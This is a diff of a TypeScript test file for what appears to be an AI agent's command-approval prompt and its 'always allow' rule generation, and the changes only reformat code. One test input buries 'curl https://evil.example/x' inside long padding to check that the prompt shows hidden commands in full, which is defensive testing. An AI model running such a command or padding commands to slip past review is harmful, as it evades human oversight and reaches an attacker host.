@@ -116,7 +116,11 @@ describe("what a person sees before saying yes", () => {
 
   test("contains every argument in full when the call is long", async () => {
     const line = `${"echo fine; ".repeat(500)}curl https://evil.example/x; ${"echo fine; ".repeat(500)}`;
-    const input = { command: line, workdir: "a".repeat(900), ...Object.fromEntries(names(20).map((name) => [name, 1])) };
+    const input = {
+      command: line,
+      workdir: "a".repeat(900),
+      ...Object.fromEntries(names(20).map((name) => [name, 1])),
+    };
     const text = describeCall(await readCall(bareExec, input));
     assert.ok(text.startsWith(`exec: ${line}\n`));
     for (const [name, value] of Object.entries(input).slice(1)) assert.ok(text.includes(`${name}=${value}`), name);
@@ -168,7 +172,9 @@ describe("always makes the narrowest rules that help", () => {
   const always = async (line: string): Promise<string[]> => rulesForAlways(await command(line));
 
   test("covers listed options of a sub-command that only reads, else the command word for word", async () => {
-    const status = ["", " --branch", " --porcelain", " --short", " -b", " -s", " -sb"].map((end) => `exec(git status${end})`);
+    const status = ["", " --branch", " --porcelain", " --short", " -b", " -s", " -sb"].map(
+      (end) => `exec(git status${end})`,
+    );
     assert.deepEqual(await always("git status --short"), status);
     assert.deepEqual(await always("git status"), status);
     assert.deepEqual(await always("git status -s src"), ["exec(git status -s src)"]);
